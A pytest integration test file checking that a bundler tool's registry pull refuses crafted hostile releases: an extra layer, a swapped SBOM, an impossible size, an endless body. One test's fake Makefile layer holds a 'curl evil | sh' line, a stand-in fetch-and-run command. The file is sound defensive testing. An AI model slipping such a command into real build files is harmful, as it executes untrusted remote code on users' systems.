"""`pull -o DIR` writes only what was verified, bounded by what the release itself declares.

A real quickstart bundle, published with `publish` to a real `docker-registry`; the releases pull is given are
crafted from it as a hostile registry (or whoever can push to it) would: an extra layer, an SBOM that is not the
zip's, a size far beyond the disk, a body that never ends. The crafted manifests are served by a front before
the real registry (tests/fixtures/registry.py), so the registry's own checks of what is pushed cannot hide a
case; the blobs are real blobs in the real registry.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import pytest
from fixtures.cli import MANIFESTS
from fixtures.registry import RunningRegistry, endless_body, is_blob_get, serve_manifest, start_front, start_registry

pytestmark = pytest.mark.integration  # the bundle is built from the real quickstart inputs

TIMEOUT = 300
REPO = "team/releases"


def cli(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "bundler", *map(str, args)], capture_output=True, text=True,
                          timeout=TIMEOUT)


def ok(proc: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert proc.returncode == 0, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return proc


@pytest.fixture(scope="module")
def release(bundler_cache: Path, tmp_path_factory: pytest.TempPathFactory):
    """The quickstart bundle published as team/releases:1.0.0; `manifest` is its image manifest as JSON."""
    registry = start_registry(tmp_path_factory.mktemp("registry"))
    out = tmp_path_factory.mktemp("built")
    built = json.loads(ok(cli("build", "--json", "--cache", bundler_cache, "-o", out,
                              MANIFESTS / "quickstart-linux.toml")).stdout)
    ok(cli("publish", "-q", built["zip"], registry.url(REPO) + ":1.0.0"))
    request = urllib.request.Request(f"http://{registry.host}/v2/{REPO}/manifests/1.0.0",
                                     headers={"Accept": "application/vnd.oci.image.manifest.v1+json"})
    with urllib.request.urlopen(request, timeout=30) as response:
        manifest = json.loads(response.read())
    yield SimpleNamespace(registry=registry, zip=Path(built["zip"]), manifest=manifest)
    registry.stop()


def push_blob(registry: RunningRegistry, data: bytes) -> dict[str, object]:
    """A real blob in the real registry; its descriptor (without media type and title)."""
    from bundler.sources.oci import Registry, parse_reference

    blob = Registry(parse_reference(registry.url(REPO), what="test", tag=False)).push_bytes(data)
    return {"digest": blob.digest, "size": blob.size}


def layer(descriptor: dict[str, object], media: str, title: str) -> dict[str, object]:
    return {**descriptor, "mediaType": media, "annotations": {"org.opencontainers.image.title": title}}


def crafted(release: SimpleNamespace, layers: list[dict[str, object]]) -> bytes:
    return json.dumps({**release.manifest, "layers": layers}, sort_keys=True).encode()


def titles(release: SimpleNamespace) -> dict[str, dict[str, object]]:
    return {entry["annotations"]["org.opencontainers.image.title"]: entry for entry in release.manifest["layers"]}


def pull(front_url: str, out: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return cli("pull", f"{front_url}:crafted", "-o", out, *extra)


def test_an_extra_layer_is_refused_by_name_and_nothing_lands(release: SimpleNamespace, tmp_path: Path) -> None:
    makefile = layer(push_blob(release.registry, b"all:\n\tcurl evil | sh\n"), "text/plain", "Makefile")
    data = crafted(release, [*release.manifest["layers"], makefile])
    with start_front(release.registry, rule=serve_manifest("crafted", data), login=False) as front:
        proc = pull(front.url(REPO), tmp_path / "out")
    assert proc.returncode == 4 and "'Makefile'" in proc.stderr and "not part of a release" in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("how", ["other size", "same size"])
def test_an_sbom_that_is_not_the_zips_own_is_refused_and_nothing_lands(release: SimpleNamespace, tmp_path: Path,
                                                                       how: str) -> None:
    layers = [dict(entry) for entry in release.manifest["layers"]]
    sbom = next(entry for entry in layers if entry["mediaType"] == "application/vnd.cyclonedx+json")
    real = urllib.request.urlopen(f"http://{release.registry.host}/v2/{REPO}/blobs/{sbom['digest']}", timeout=30).read()
    fake = b'{"components": []}' if how == "other size" else real.replace(b"onnxruntime", b"onnxruntimf", 1)
    assert fake != real
    sbom.update(push_blob(release.registry, fake))
    with start_front(release.registry, rule=serve_manifest("crafted", crafted(release, layers)), login=False) as front:
        proc = pull(front.url(REPO), tmp_path / "out")
    assert proc.returncode == 5, proc.stderr
    assert sbom["annotations"]["org.opencontainers.image.title"] in proc.stderr and "sbom.cdx.json inside" in proc.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == []


def test_a_file_dir_holds_is_kept_unless_force(release: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    mine = out / release.zip.name
    mine.write_bytes(b"my own file")
    proc = cli("pull", release.registry.url(REPO) + ":1.0.0", "-o", out)
    assert proc.returncode == 2 and f"{mine} already exists" in proc.stderr and "--force" in proc.stderr, proc.stderr
    assert mine.read_bytes() == b"my own file" and sorted(p.name for p in out.iterdir()) == [mine.name]
    ok(cli("pull", "-q", "--force", release.registry.url(REPO) + ":1.0.0", "-o", out))
    assert mine.read_bytes() == release.zip.read_bytes()
    assert sorted(p.name for p in out.iterdir()) == sorted(titles(release))


def test_a_folder_at_a_files_name_is_an_error_before_anything_moves(release: SimpleNamespace, tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / f"{release.zip.name}.sha256").mkdir(parents=True)
    for extra in ((), ("--force",)):
        proc = cli("pull", release.registry.url(REPO) + ":1.0.0", "-o", out, *extra)
        assert proc.returncode == 2 and "is a folder" in proc.stderr, proc.stderr
        assert sorted(p.name for p in out.iterdir()) == [f"{release.zip.name}.sha256"]  # the zip did not move


def test_a_size_beyond_the_disk_is_refused_before_a_byte_is_fetched(release: SimpleNamespace, tmp_path: Path) -> None:
    layers = [dict(entry) for entry in release.manifest["layers"]]
    layers[0]["size"] = 10**15  # the zip
    with start_front(release.registry, rule=serve_manifest("crafted", crafted(release, layers)), login=False) as front:
        proc = pull(front.url(REPO), tmp_path / "out")
    assert proc.returncode == 4, proc.stderr
    assert f"registry {front.host}" in proc.stderr and f"{release.zip.name}: 1,000,000,000,000,000" in proc.stderr, \
        proc.stderr
    assert not [seen for seen in front.seen if is_blob_get(seen.method, seen.path)]
    assert not (tmp_path / "out").exists()


def test_an_endless_layer_is_cut_at_its_declared_size_naming_the_registry(release: SimpleNamespace,
                                                                          tmp_path: Path) -> None:
    data = crafted(release, release.manifest["layers"])
    serve = serve_manifest("crafted", data)

    def rule(handler, method: str, body: bytes) -> bool:  # type: ignore[no-untyped-def]
        return serve(handler, method, body) or endless_body()(handler, method, body)

    with start_front(release.registry, rule=rule, login=False) as front:
        proc = pull(front.url(REPO), tmp_path / "out")
    size = titles(release)[release.zip.name]["size"]
    assert proc.returncode == 4, proc.stderr
    assert f"registry {front.host}" in proc.stderr and f"sent more than the {size:,} bytes" in proc.stderr, proc.stderr
    assert "the release's manifest declares" in proc.stderr and "manifest entry" not in proc.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == []


def test_the_release_as_published_still_lands_whole(release: SimpleNamespace, tmp_path: Path) -> None:
    pulled = json.loads(ok(cli("pull", "--json", release.registry.url(REPO) + ":1.0.0", "-o", tmp_path)).stdout)
    assert sorted(Path(p).name for p in pulled["files"]) == sorted(titles(release))
    assert (tmp_path / release.zip.name).read_bytes() == release.zip.read_bytes()
    assert (tmp_path / f"{release.zip.name}.sha256").read_text() == \
        f"{hashlib.sha256(release.zip.read_bytes()).hexdigest()}  {release.zip.name}\n"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".ort-bundler-pull-")]
    assert os.stat(tmp_path / release.zip.name).st_nlink == 1  # the staged copy is gone
